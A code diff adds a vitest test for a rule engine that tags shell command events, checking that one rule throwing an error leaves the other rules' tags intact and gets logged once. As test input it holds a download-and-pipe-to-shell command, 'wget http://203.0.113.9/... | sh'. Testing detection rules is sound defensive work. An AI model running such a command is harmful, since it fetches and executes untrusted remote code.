@@ -1,9 +1,11 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
+import { recordingLog } from '../../test/support/recording-log.js'
 import { commandEvent, fieldsOf, rulesetOf, testContext, testEvent } from '../../test/support/tagging.js'
 import { sourceKind } from '../events/source-kinds.js'
 import type { TaggerEvent } from '../events/tagger-event.js'
-import { withState } from '../rules/compiled-rule.js'
+import { type CompiledRule, withState } from '../rules/compiled-rule.js'
+import { Condition } from '../rules/condition.js'
 import { DEFAULT_RULE_STATE, type RuleState } from '../rules/rule-state.js'
 import { Ruleset } from '../rules/ruleset.js'
 import { computeTagUuid } from '../tagging/tag-id.js'
@@ -117,6 +119,34 @@ describe('RuleEngine', () => {
     expect((tag!.evidence.excerpt as string).length).toBeLessThan(600)
     expect(tag!.evidence.excerpt).toContain('wget')
   })
+})
+
+describe('a rule that throws', () => {
+  it("loses no other rule's tags, and is told once", () => {
+    const ruleset = rulesetOf(SHELL, WGET)
+    const broken = [...ruleset.rules.values()].map((rule) =>
+      rule.ruleId === 'S'
+        ? { ...rule, match: { kind: 'condition' as const, condition: throwingCondition(rule) } }
+        : rule,
+    )
+    const log = recordingLog()
+    const engine = new RuleEngine(log)
+    const withBroken = new Ruleset(broken, ruleset.attackRelease)
+    for (let round = 0; round < 3; round++) {
+      const event = commandEvent(`wget http://203.0.113.9/${round} | sh`)
+      expect(tagsOf(withBroken, event, engine).map((tag) => tag.ruleId)).toEqual(['W'])
+    }
+    expect(log.lines.map((line) => [line.level, line.fields.rule_id])).toEqual([['error', 'S']])
+  })
+
+  function throwingCondition({ match }: CompiledRule): Condition {
+    if (match.kind !== 'condition') throw new Error('expected a condition')
+    const condition = new Condition(match.condition.tree)
+    condition.holds = () => {
+      throw new Error('out of memory')
+    }
+    return condition
+  }
 })
 
 const leaves = [
